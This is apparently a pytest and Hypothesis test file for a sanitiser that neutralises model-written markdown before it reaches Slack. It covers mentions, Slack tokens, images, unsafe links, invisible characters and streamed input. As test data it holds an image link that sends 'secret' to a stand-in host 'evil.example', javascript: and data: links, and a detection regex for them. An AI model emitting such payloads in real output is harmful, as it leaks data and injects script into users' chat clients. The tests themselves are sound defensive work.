"""A model's text pings nobody, loads nothing, and hides nothing; in one piece or in many."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.blocks.markdown import Neutralizer, neutral

Z = "\u200b"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Hi <!channel> and <@U123> in <#C1>", f"Hi <{Z}!channel> and <{Z}@{Z}U123> in <{Z}#C1>"),
        ("@channel @Here @everyone", f"@{Z}channel @{Z}Here @{Z}everyone"),
        ("ana@example.com, @mara", "ana@example.com, @mara"),
        ("![logo](https://evil.example/?q=secret)", f"{Z}(image: logo)"),
        ("![](https://evil.example)", f"{Z}(image)"),
        ("![logo][ref] and ![ref]", f"{Z}(image: logo) and {Z}(image: ref)"),
        ("![a\nb](https://evil.example)", f"{Z}(image: a b)"),
        ("![a [b](https://x.example) c](y)", f"{Z}(image: a b) c](y)"),
        ("![<!channel> @here](x)", f"{Z}(image: <{Z}!channel> @{Z}here)"),
        ("[x]![y](z)", f"[x]{Z}(image: y)"),
        ("wow! [1]", "wow! [1]"),
        (
            "[ok](https://example.com) [m](mailto:a@b.c)",
            "[ok](https://example.com) [m](mailto:a@b.c)",
        ),
        ("[bad](javascript:alert(1))", f"[bad]{Z}(javascript:alert(1))"),
        ("[bad]( <JavaScript:x>)", f"[bad]{Z}( <{Z}JavaScript:x>)"),
        ("[bad](javascript&#58;x)", f"[bad]{Z}(javascript&#58;x)"),
        ("[bad](slack://user?id=1)", f"[bad]{Z}(slack://user?id=1)"),
        ("[ref]: data:text/html,x", f"[ref]{Z}: data:text/html,x"),
        ("[ref]: https://example.com", "[ref]: https://example.com"),
        ("<javascript:alert(1)>", f"<{Z}javascript:alert(1)>"),
        ("<https://example.com>", "<https://example.com>"),
        ("vector<std::string> a[0](x)", "vector<std::string> a[0](x)"),
        ("a < b, c > d", "a < b, c > d"),
        ("@chan\u200dnel \u202egnp", f"@{Z}channel gnp"),
        ("1. **bold** `code` | a | b |", "1. **bold** `code` | a | b |"),
        ("ends with <", "ends with <"),
        ("ends with !", "ends with !"),
        ("half ![image", f"half !{Z}[image"),
    ],
)
def test_only_words_remain(written, shown):
    assert neutral(written).replace(f"@{Z}U123", "@U123") == shown.replace(f"@{Z}U123", "@U123")


PARTS = [
    *"<>!@#[]():&\\ \n\r|`*ax",
    *("<!", "![", "](", "]:", "](javascript:", "](https://x)", "[a", "<std:", "<http"),
    *("channel", "@here", "@every", "one", "<@U1", "<#C", "\r\n", "x" * 70, "y" * 301),
    *("\u200b", "\u200d", "\u200c", "\u202e", "é", "م", "👩"),
]
TRICKS = st.lists(st.sampled_from(PARTS), max_size=30).map("".join)


@given(TRICKS, st.data())
def test_the_cuts_of_a_stream_change_nothing(text, data):
    neutralizer, shown, rest = Neutralizer(), "", text
    while rest:
        size = data.draw(st.integers(1, max(len(rest), 1)))
        shown += neutralizer.feed(rest[:size])
        rest = rest[size:]

    assert shown + neutralizer.flush() == neutral(text)


@given(TRICKS)
def test_one_character_at_a_time_changes_nothing(text):
    neutralizer = Neutralizer()

    shown = "".join(map(neutralizer.feed, text)) + neutralizer.flush()

    assert shown == neutral(text)


@given(TRICKS, st.integers(1, 2))
def test_no_token_of_slack_and_no_image_survives(text, times):
    for _ in range(times):
        text = neutral(text)

    assert not re.search(r"<[!@#]|!\[|@(channel|here|everyone)", text, re.IGNORECASE)
    assert not re.search(r"\]\(\s*javascript:", text)
    assert not set(text) & set("\u202e\r")


def test_a_long_wait_is_given_up():
    neutralizer = Neutralizer()

    shown = neutralizer.feed("![" + "a" * 5_000)

    assert shown.startswith(f"!{Z}[aaa")


def test_a_flood_of_marks_is_dealt_with_quickly():
    began = time.process_time()
    for mark in ("![", "](", "<", "@", "![](", "]", "\u200d", "[x](a"):
        neutralizer = Neutralizer()
        for _ in range(300):
            neutralizer.feed(mark * 20)
        neutralizer.flush()

    assert time.process_time() - began < 5  # seconds of this process; 0.1 in practice
